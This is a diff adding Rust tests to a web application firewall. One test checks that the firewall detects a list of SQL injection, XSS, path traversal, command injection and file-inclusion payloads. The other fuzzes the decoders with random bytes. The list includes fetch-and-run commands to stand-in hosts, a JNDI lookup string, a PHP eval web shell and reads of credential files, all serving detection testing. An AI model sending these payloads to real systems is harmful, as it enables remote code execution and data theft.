@@ -314,3 +314,102 @@ fn paranoia_adds_rules() {
 fn registered_as_waf() {
     assert!(crate::builtin().contains("waf"));
 }
+
+/// Payloads of the shapes public rule sets test for (OWASP CRS regression tests, libinjection's
+/// data), none of them from the development corpus.
+#[test]
+fn public_rule_set_shapes_are_detected() {
+    let cases: &[(&str, &str)] = &[
+        ("sqli", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
+        ("sqli", "1' AND extractvalue(1,concat(0x7e,version()))-- -"),
+        ("sqli", "1;WAITFOR DELAY '0:0:5'--"),
+        (
+            "sqli",
+            "-1' UNION/*!50000SELECT*/1,2,group_concat(table_name) FROM information_schema.tables#",
+        ),
+        ("sqli", "admin'/**/OR/**/1=1#"),
+        ("xss", "<details open ontoggle=alert(1)>"),
+        ("xss", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
+        (
+            "xss",
+            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+        ),
+        (
+            "xss",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        ),
+        ("xss", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        (
+            "xss",
+            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        ),
+        ("path_traversal", "....//....//....//etc/passwd"),
+        ("path_traversal", "..%c0%af..%c0%afetc%c0%afpasswd"),
+        ("path_traversal", "/WEB-INF/web.xml"),
+        ("path_traversal", "/proc/self/environ"),
+        ("path_traversal", "..\\..\\..\\windows\\win.ini"),
+        (
+            "command_injection",
+            "; wget http://203.0.113.5/x.sh -O /tmp/x; sh /tmp/x",
+        ),
+        ("command_injection", "$(curl -s http://x.example/a|sh)"),
+        (
+            "command_injection",
+            "| powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
+        ),
+        ("command_injection", "() { :;}; /bin/bash -c 'id'"),
+        ("command_injection", "require('child_process').exec('id')"),
+        ("command_injection", "${jndi:ldap://x.example/a}"),
+        (
+            "command_injection",
+            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+        ),
+        ("command_injection", "<?php eval($_POST['x']); ?>"),
+        ("command_injection", "{\"__proto__\":{\"admin\":true}}"),
+        ("rfi", "expect://id"),
+        ("rfi", "http://192.0.2.10/backdoor.txt?"),
+        ("protocol", "foo%0d%0aLocation:%20http://evil.example"),
+    ];
+    let p = waf(json!({}));
+    for (class, payload) in cases {
+        let q = format!("q={}", enc(payload));
+        let (c, _) =
+            blocked(&p, Req::get("/api/x", &q)).unwrap_or_else(|| panic!("missed {payload}"));
+        assert_eq!(c, *class, "{payload}");
+    }
+}
+
+/// Arbitrary bytes (a deterministic xorshift stream) through every decoder and engine: no panic.
+#[test]
+fn hostile_bytes_never_panic() {
+    let p = waf(json!({"mode": "monitor"}));
+    let plain = Waf::from_config(&json!({})).unwrap();
+    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
+    let alphabet = b"%%%&#;xX0123456789aAcCeEfFuU./\\'\"<>()=-+*!`$|{}[]:\0\r\n \xc0\xc1\xe0\xf8\xfc\x80\xae\xef\xbf";
+    for round in 0..120 {
+        let len = (round * 13) % 400;
+        let mut bytes = Vec::with_capacity(len);
+        for _ in 0..len {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            bytes.push(alphabet[(x % alphabet.len() as u64) as usize]);
+        }
+        let text = String::from_utf8_lossy(&bytes).into_owned();
+        let _ = decode::normalize(&text);
+        let _ = decode::strip_sql_comments(&text);
+        for ct in [
+            "application/json",
+            "application/x-www-form-urlencoded",
+            "multipart/form-data; boundary=%",
+            "text/plain",
+        ] {
+            let _ = run(&p, Req::post(ct, &bytes));
+        }
+        let q: String = text
+            .chars()
+            .filter(|c| !c.is_control() && *c != '#')
+            .collect();
+        let _ = plain.inspect_body(&BodyKind::Text, q.as_bytes());
+    }
+}
